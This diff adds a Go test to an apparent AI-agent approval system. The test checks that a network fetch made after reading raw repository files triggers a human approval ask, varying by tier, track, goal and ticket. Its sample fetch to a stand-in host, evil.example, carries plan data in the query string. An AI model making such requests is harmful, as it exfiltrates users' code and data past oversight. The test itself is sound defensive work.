@@ -174,3 +174,38 @@ func TestAQuestionNamesAFewSourcesAndCountsTheRest(t *testing.T) {
 	require.Equal(t, []string{"repo: f0.go", "repo: f1.go", "repo: f2.go", "repo: f3.go", "repo: f4.go", "repo: f5.go", "and 2 more"},
 		tierstest.All[events.AskRaised](h)[0].Taint)
 }
+
+// read shows views to whoever asks for them so.
+func read(by events.ContextRequested, views ...events.View) []events.Payload {
+	return given(by, tierstest.With(func(h *tierstest.History) events.Payload {
+		return events.ContextBuilt{Request: h.LastID("ContextRequested"), Views: views}
+	}))
+}
+
+func TestATicketIsAsSuspectAsWhatItsPlanWasMadeFrom(t *testing.T) {
+	t.Parallel()
+	plan := given(events.TrackStarted{Goal: "G", Track: events.Track{ID: "TR"}}, events.TicketsPlanned{Track: "TR", Tickets: []events.Ticket{{ID: "T-1"}}})
+	look := fetches("https://evil.example/?data=from-the-plan")
+	for name, c := range map[string]struct {
+		seen []events.Payload
+		asks bool
+	}{
+		"nothing":              {nil, false},
+		"names alone":          {read(events.ContextRequested{Tier: 2, Track: "TR"}, events.View{Path: ".", View: events.ViewTree}), false},
+		"by tier 2":            {read(events.ContextRequested{Tier: 2, Track: "TR"}, rawFile), true},
+		"by tier 1":            {read(events.ContextRequested{Tier: 1, Goal: "G"}, rawFile), true},
+		"for another track":    {read(events.ContextRequested{Tier: 2, Track: "TX"}, rawFile), false},
+		"for another goal":     {read(events.ContextRequested{Tier: 1, Goal: "GX"}, rawFile), false},
+		"by its review":        {read(events.ContextRequested{Tier: 2, Track: "TR", Ticket: "T-1", Attempt: 0}, rawFile), true},
+		"by another's review":  {read(events.ContextRequested{Tier: 2, Track: "TR", Ticket: "T-2", Attempt: 1}, rawFile), false},
+		"by an earlier try":    {read(events.ContextRequested{Tier: 3, Ticket: "T-1", Attempt: 7}, rawFile), false},
+		"for a patch, by hand": {read(events.ContextRequested{Tier: 4}, rawFile), false},
+	} {
+		h := tierstest.Play(t, approval.Decider(), given(begin(hosts), c.seen, plan, look)...)
+		require.Equal(t, c.asks, len(tierstest.All[events.AskRaised](h)) == 1, name)
+		require.Equal(t, !c.asks, len(tierstest.All[events.ToolApproved](h)) == 1, name)
+		if c.asks {
+			require.Equal(t, []string{"repo: a.go"}, tierstest.All[events.AskRaised](h)[0].Taint, name)
+		}
+	}
+}
